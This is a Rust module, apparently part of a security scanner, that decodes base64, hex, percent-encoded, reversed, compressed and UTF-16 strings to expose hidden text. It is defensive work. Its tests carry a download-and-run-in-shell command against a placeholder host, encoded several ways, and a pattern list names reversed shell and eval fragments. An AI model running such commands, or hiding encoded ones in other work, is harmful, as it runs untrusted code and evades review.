//! Encoded text: what it says.
//!
//! Only what decodes to readable text, or to a compressed stream of it, counts: most strings of
//! the right alphabet encode nothing.

use std::io::Read;

use base64::Engine;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// A layer of text under a text.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Layer {
    /// How it was encoded.
    pub(crate) how: &'static str,
    pub(crate) text: String,
}

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

/// An encoded text is at least this long to be tried without being asked for.
const MIN_BASE64: usize = 24;
const MIN_HEX: usize = 32;
/// No layer grows beyond this, compressed or not.
const MAX: usize = 1 << 20;

/// The layers that a string holds although nobody was seen to decode it.
pub(crate) fn layers(text: &str) -> Vec<Layer> {
    let mut out = Vec::new();
    let trimmed = text.trim();
    if trimmed.len() > 2 * MAX {
        return out;
    }
    if trimmed.len() >= MIN_BASE64 && !has_words(trimmed) {
        for word in trimmed
            .split(|c: char| !is_base64(c) && !c.is_ascii_whitespace())
            .take(64)
        {
            let word = word.trim();
            if word.len() >= MIN_BASE64
                && mixed(word)
                && let Some(text) = base64(word).and_then(readable)
            {
                out.push(Layer {
                    how: "base64",
                    text,
                });
            }
        }
        if trimmed.len() >= MIN_HEX
            && let Some(text) = hex(trimmed).and_then(readable)
        {
            out.push(Layer { how: "hex", text });
        }
    }
    if trimmed.len() >= 16 && trimmed.bytes().filter(|b| *b == b'%').count() * 6 > trimmed.len() {
        let decoded = url(trimmed);
        if decoded != trimmed {
            out.push(Layer {
                how: "url",
                text: decoded,
            });
        }
    }
    if looks_reversed(trimmed) {
        out.push(Layer {
            how: "reversed",
            text: trimmed.chars().rev().collect(),
        });
    }
    out
}

/// Long enough, of one alphabet and dense: likely encoded, or a key.
pub(crate) fn looks_encoded(text: &str) -> bool {
    text.len() >= 64 && mixed(text) && text.chars().all(|c| is_base64(c) || c == '\n')
}

fn is_base64(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '-' | '_')
}

/// Has digits or both cases: a path or an identifier rarely has all through 24 letters.
fn mixed(text: &str) -> bool {
    let has = |f: fn(&u8) -> bool| text.as_bytes().iter().any(f);
    has(u8::is_ascii_lowercase) && (has(u8::is_ascii_uppercase) || has(u8::is_ascii_digit))
        || has(u8::is_ascii_uppercase) && has(u8::is_ascii_digit)
}

/// Running text: many short words.
fn has_words(text: &str) -> bool {
    let mut words = 0_usize;
    let mut long = 0_usize;
    for word in text.split_ascii_whitespace().take(200) {
        words += 1;
        long += usize::from(word.len() >= MIN_BASE64);
    }
    words > 3 && long == 0
}

fn looks_reversed(text: &str) -> bool {
    text.len() >= 8
        && [
            "//:sptth",
            "//:ptth",
            "lave",
            "hsab/nib/",
            " lruc",
            "cexe",
            "metsys",
        ]
        .iter()
        .any(|needle| text.ends_with(needle) || text.contains(&format!("{needle} ")))
        && !text.contains("://")
}

/// Decodes either alphabet, padded or not, with white space inside.
pub(crate) fn base64(text: &str) -> Option<Vec<u8>> {
    let text: Vec<u8> = text.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if text.is_empty() || text.len() > 2 * MAX {
        return None;
    }
    STANDARD
        .decode(&text)
        .or_else(|_| URL_SAFE.decode(&text))
        .ok()
}

/// Decodes hex digits, with `0x`, `\x`, spaces, commas or colons between.
pub(crate) fn hex(text: &str) -> Option<Vec<u8>> {
    let digits: Vec<u8> = text
        .replace("0x", "")
        .replace("\\x", "")
        .bytes()
        .filter(|b| !matches!(b, b' ' | b',' | b':' | b'\n' | b'\r' | b'\t'))
        .map(|b| b.to_ascii_lowercase())
        .collect();
    if digits.is_empty() || digits.len() > 2 * MAX {
        return None;
    }
    data_encoding::HEXLOWER.decode(&digits).ok()
}

/// Percent-decodes.
pub(crate) fn url(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut at = 0;
    while at < bytes.len() {
        let code = (bytes[at] == b'%')
            .then(|| bytes.get(at + 1..at + 3))
            .flatten()
            .and_then(|h| u8::from_str_radix(std::str::from_utf8(h).ok()?, 16).ok());
        if let Some(code) = code {
            out.push(code);
            at += 3;
        } else {
            out.push(bytes[at]);
            at += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Rotates letters by 13.
pub(crate) fn rot13(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            'a'..='m' | 'A'..='M' => char::from(c as u8 + 13),
            'n'..='z' | 'N'..='Z' => char::from(c as u8 - 13),
            other => other,
        })
        .collect()
}

/// Inflates gzip or zlib, up to the cap.
pub(crate) fn inflate(bytes: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    match bytes {
        [0x1f, 0x8b, ..] => flate2::read::GzDecoder::new(bytes)
            .take(MAX as u64)
            .read_to_end(&mut out)
            .ok()?,
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => flate2::read::ZlibDecoder::new(bytes)
            .take(MAX as u64)
            .read_to_end(&mut out)
            .ok()?,
        _ => return None,
    };
    Some(out)
}

/// The bytes as text, if they are readable text or a compressed stream of it.
pub(crate) fn readable(bytes: Vec<u8>) -> Option<String> {
    let bytes = match inflate(&bytes) {
        Some(inflated) => inflated,
        None => bytes,
    };
    if bytes.len() > MAX {
        return None;
    }
    let text = String::from_utf8(bytes)
        .or_else(|e| utf16(&e.into_bytes()).ok_or(()))
        .ok()?;
    let text = if text.contains('\0') {
        utf16(text.as_bytes())?
    } else {
        text
    };
    let total = text.chars().count();
    let plain = text
        .chars()
        .filter(|c| {
            matches!(c, '\n' | '\r' | '\t' | ' '..='~') || (c.is_alphanumeric() && !c.is_control())
        })
        .count();
    let ascii = text
        .chars()
        .filter(|c| matches!(c, '\n' | '\r' | '\t' | ' '..='~'))
        .count();
    (total >= 8 && plain * 20 >= total * 19 && ascii * 10 >= total * 7).then_some(text)
}

/// Little-endian UTF-16, as PowerShell's `-EncodedCommand` has it.
fn utf16(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 8 || !bytes.len().is_multiple_of(2) {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    let text = String::from_utf16(&units).ok()?;
    text.chars()
        .all(|c| !c.is_control() || c.is_ascii_whitespace())
        .then_some(text)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn layers_are_found_under_each_encoding() {
        for (text, how, inner) in [
            (
                "Y3VybCBodHRwczovL2V4YW1wbGUuaW52YWxpZCB8IHNo",
                "base64",
                "curl https://example.invalid | sh",
            ),
            (
                "6375726c2068747470733a2f2f6578616d706c652e696e76616c6964",
                "hex",
                "curl https://example.invalid",
            ),
            ("%63%75%72%6c%20%68%74%74%70%73", "url", "curl https"),
            (
                "hs | dilavni.elpmaxe//:sptth",
                "reversed",
                "https://example.invalid | sh",
            ),
        ] {
            let layers = layers(text);
            assert!(
                layers.iter().any(|l| l.how == how && l.text == inner),
                "{text}: {layers:?}"
            );
        }
    }

    #[test]
    fn ordinary_text_holds_no_layer() {
        for text in [
            "the quick brown fox jumps over the lazy dog",
            "src/components/SettingsPanel/index",
            "da39a3ee5e6b4b0d3255bfef95601890afd80709",
            "getElementsByClassNameAndTagName",
        ] {
            assert_eq!(layers(text), [], "{text}");
        }
    }

    proptest! {
        #[test]
        fn what_base64_encodes_is_found(text in "[a-z]{4} [ -~]{24,200}") {
            let encoded = base64::engine::general_purpose::STANDARD.encode(&text);
            prop_assert_eq!(base64(&encoded).and_then(readable), Some(text));
        }

        #[test]
        fn decoding_never_panics(text in any::<String>()) {
            layers(&text);
            url(&text);
        }
    }
}
